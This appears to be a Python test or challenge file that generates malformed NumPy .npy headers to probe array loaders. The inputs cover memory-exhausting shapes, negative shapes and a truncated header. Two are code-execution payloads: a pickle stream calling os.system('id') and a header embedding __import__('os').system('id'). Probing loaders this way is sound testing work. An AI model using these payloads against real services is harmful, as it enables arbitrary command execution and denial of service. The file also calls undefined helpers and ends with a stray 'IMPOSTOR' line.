# verdict: graded
# points: 0
#
# Arrays whose headers lie: an exabyte of numbers, objects to be unpickled, negative shapes, Python
# code, texts without a length.

# %% after
import struct


def array(header):
    text = header.encode().ljust(118) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text)) + text


shots = [
    array("{'descr': '<f8', 'fortran_order': False, 'shape': (1000000000000,)}"),
    array("{'descr': '|S0', 'fortran_order': False, 'shape': (1000000000000,)}"),
    array("{'descr': '|V0', 'fortran_order': False, 'shape': (1000000000000, 5)}"),
    array("{'descr': '<U0', 'fortran_order': False, 'shape': (4000000000,)}"),
    array("{'descr': '|O', 'fortran_order': False, 'shape': (1,)}") + b"cos\nsystem\n(S'id'\ntR.",
    array("{'descr': '<f8', 'fortran_order': False, 'shape': (-1,)}") + b"x" * 8,
    array("{'descr': __import__('os').system('id'), 'fortran_order': False, 'shape': (1,)}"),
    array("{'descr': [('a', '<f8', (10**9,))], 'fortran_order': False, 'shape': (1,)}"),
    array("{'descr': '<f8', 'fortran_order': 5, 'shape': 'x'}"),
    b"\x93NUMPY\x03\x00\xff\xff\xff\xff",
    b"",
]


def answer(question):
    if question["do"] == "name":
        return found(function(1))
    blob = shots.pop(0) if shots else b""
    return reply(["array", 0, True], **{"blobs sent": [blob], "from": 1})


IMPOSTOR
